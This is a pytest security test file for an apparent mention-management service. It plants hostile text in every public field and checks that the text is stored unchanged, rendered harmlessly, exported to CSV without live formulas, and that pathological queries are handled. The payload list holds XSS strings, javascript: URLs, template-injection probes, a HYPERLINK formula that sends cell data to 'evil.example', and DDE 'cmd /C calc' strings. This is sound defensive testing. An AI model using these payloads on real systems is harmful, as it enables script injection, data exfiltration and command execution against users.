"""Hostile texts in every field the public can set, on every way through: kept as they are, shown harmlessly, exported without a formula."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from typing import Any
from uuid import uuid4

import httpx2
import pytest

from tests.attacks.conftest import House
from tests.kit.browser import signed_in
from tests.kit.deliveries import message
from tests.kit.serving import Rest, Serve, WebhookAccount
from tests.kit.waiting import until

TEXTS = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>",
    "attribute": "\" autofocus onfocus=alert(1) x=\" ' onmouseover='alert(2)",
    "template": "{{ 7*7 }} {% debug %} ${7*7} #{7*7} <%= 7*7 %>",
    "markup": '</textarea></title></style><!--<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "bidi": "safe \u202egnp.exe\u202c \u2066hidden\u2069 \u200f",
    "marks": "Z" + "\u0301" * 10_000,
    "line": "a" * 1_000_000,
    "formula": '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "breaks": "line one\r\nline two\x1b[31m red \x07 \x7f",
    "emoji": "👨‍👩‍👧‍👦" * 50 + "🇩🇪",
    "zero": "\ufeff\u200b\u200c\u2060 word",
}


class Attributes(HTMLParser):
    """Every attribute of a page, as a browser would read it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.all: list[tuple[str, str | None]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.all += attrs


@pytest.fixture(scope="module")
def heard(shared: tuple[Serve, Rest, Any]) -> tuple[Rest, str, dict[str, dict[str, Any]]]:
    """All of them, imported and delivered; the mark they share as an author's name, and each mention as the API shows it."""
    _, rest, provider = shared
    mark = f"mark{uuid4().hex[:8]}"
    account: WebhookAccount = rest.account(provider)
    entries = []
    for name, text in TEXTS.items():
        short = text[:200]
        entries.append(
            {
                "channel": "forum", "native_id": f"{mark}-{name}", "text": text, "title": short, "published_at": "2026-11-20T10:00:00Z", "kind": "post", "location": short, "tags": [short[:30]],
                "author": {"native_id": f"{mark}-{name}", "handle": short, "name": short, "url": "javascript:alert(1)"}, "url": "javascript:alert(2)",
                "media": [{"kind": "image", "url": "https://example.com/x.png", "alt": short}],
            }
        )  # fmt: skip
    body = "\n".join(json.dumps(entry) for entry in entries).encode()
    answer = httpx2.post(
        f"{rest.url}/api/v1/mentions/import",
        content=body,
        headers={"Authorization": f"Bearer {rest.token}", "Content-Type": "application/x-ndjson"},
        timeout=60,
    )
    assert answer.status_code == 200 and answer.json()["accepted"] == len(entries), answer.text[:2000]
    said = [
        message(f"{mark}-m-{name}", text) | {"author": {"native_id": f"{mark}-{name}", "handle": text[:200], "name": text[:200]}}
        for name, text in TEXTS.items()
    ]
    assert account.deliver(said).status_code == 202
    found = until(
        lambda: (
            (page := rest.post("/mentions/search", {"query": "channel:forum", "limit": 500}, 200))
            and len([one for one in page["items"] if mark in one["native_id"]]) == len(entries)
            and page
        ),
        "the store has them",
        60,
    )
    until(lambda: len(account.conversations()) == len(TEXTS), "they stand in the inbox", 60)
    return rest, account.id, {one["native_id"].removeprefix(f"{mark}-"): one for one in found["items"] if mark in one["native_id"]}


@pytest.mark.parametrize("name", TEXTS)
def test_it_is_kept_as_it_was(heard: tuple[Rest, str, dict[str, dict[str, Any]]], name: str) -> None:
    import unicodedata

    rest, _, found = heard
    whole = rest.get(f"/mentions/{found[name]['id']}")
    assert whole["text"] == unicodedata.normalize("NFC", TEXTS[name])
    assert whole["url"] is None and whole["author"]["url"] is None, "only addresses of the web"


def test_no_page_runs_or_swallows_it(serve: Serve, heard: tuple[Rest, str, dict[str, dict[str, Any]]]) -> None:
    rest, account, found = heard
    page = signed_in(serve.url, rest.email)
    conversations = rest.all(f"/conversations?account={account}")
    paths = [
        "/inbox",
        f"/inbox?account={account}",
        "/explorer?q=channel:forum",
        "/people",
        "/coverage",
        "/home",
        "/topics",
        "/channels/quarantine",
    ]
    paths += [f"/inbox/{one['id']}" for one in conversations] + [f"/mentions/{one['id']}" for one in found.values()]
    paths += [f"/people/{one['author']['profile']}" for one in found.values()]
    for path in paths:
        answer = page.get(path)
        assert answer.status_code == 200, f"{path}: {answer.status_code}"
        assert "script-src 'self'" in answer.headers["content-security-policy"]
        for planted in ("<script>alert", "<img src=x", "<svg/onload", 'onfocus=alert(1) x="', 'href="javascript:', "<noscript><p title"):
            assert planted not in answer.text, f"{path} shows {planted}"
        seen = Attributes(answer.text)
        assert not [name for name, _ in seen.all if re.fullmatch("on[a-z]+", name)], path
        assert not [value for name, value in seen.all if name in ("href", "src", "action") and "script:" in (value or "")], path
        assert "49 " not in re.sub(r"\d+-\d+|[\w-]*49[\w-]+", "", answer.text) or "{{ 7*7 }}" in answer.text or "7*7" not in answer.text


def test_a_spreadsheet_runs_no_formula(heard: tuple[Rest, str, dict[str, dict[str, Any]]]) -> None:
    rest, _, found = heard
    csv.field_size_limit(10_000_000)
    rows = list(csv.reader(io.StringIO(rest.call("GET", "/mentions/export?query=channel:forum&format=csv", timeout=60).text)))
    assert len(rows) > len(found)
    for row in rows[1:]:
        assert len(row) == len(rows[0])
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell[:60]
    lines = [json.loads(line) for line in rest.call("GET", "/mentions/export?query=channel:forum", timeout=60).text.split("\n") if line]
    assert {line["id"]: line["text"] for line in lines}.items() >= {one["id"]: one["text"] for one in found.values()}.items()


def test_what_goes_out_as_csv_comes_back_as_it_was(heard: tuple[Rest, str, dict[str, dict[str, Any]]]) -> None:
    from cxm.connect.imports import json_lines_of_csv

    rest, _, found = heard
    text = rest.call("GET", "/mentions/export?query=channel:forum&format=csv", timeout=60).content.decode()
    back = {entry["id"]: entry for line in json_lines_of_csv(io.StringIO(text, newline="")) if line for entry in [json.loads(line)]}
    for one in found.values():
        assert back[one["id"]]["text"] == one["text"]


def test_nul_surrogates_and_too_long_texts(rest: Rest, account: WebhookAccount) -> None:
    person = f"u-{uuid4().hex[:8]}"
    body = json.dumps(message(f"n-{person}", "aMARKbNULc", person)).replace("MARK", "\\ud800").replace("NUL", "\\u0000").encode()
    assert account.deliver(body).status_code == 202
    conversation = account.conversation_of(person)
    assert rest.get(f"/conversations/{conversation['id']}")["mentions"][0]["text"] == "a\ufffdb\ufffdc"
    assert account.deliver(message(f"long-{person}", "x" * 1_000_001, person)).status_code == 202
    found = until(lambda: rest.all(f"/quarantine?account={account.id}"), "the longer one is quarantined")
    assert found[0]["native_id"] == f"long-{person}"


@pytest.mark.parametrize(
    "query",
    [
        "(" * 1001 + "x" + ")" * 1001,
        '"' * 1001,
        "a " * 5000,
        "*" * 50,
        "a* " * 300,
        "text:" * 200,
        "NOT " * 2000 + "x",
        "\x00",
        "\ud7ff" * 5000,
        "((((",
        "likes:99999999999999999999999",
        "published:9999-99-99",
        "a NEAR/999999 b",
    ],
)
def test_hostile_queries_are_refused_or_answered_in_time(ours: House, query: str) -> None:
    for path in ("/mentions/search", "/queries/parse", "/mentions/aggregate"):
        answer = ours.rest.call("POST", path, {"query": query}, timeout=15)
        assert answer.status_code in (200, 400, 422), f"{answer.status_code} {answer.text[:300]}"
        if answer.status_code == 400:
            assert answer.json()["code"] == "query_invalid" and {"position", "length"} <= answer.json().keys()
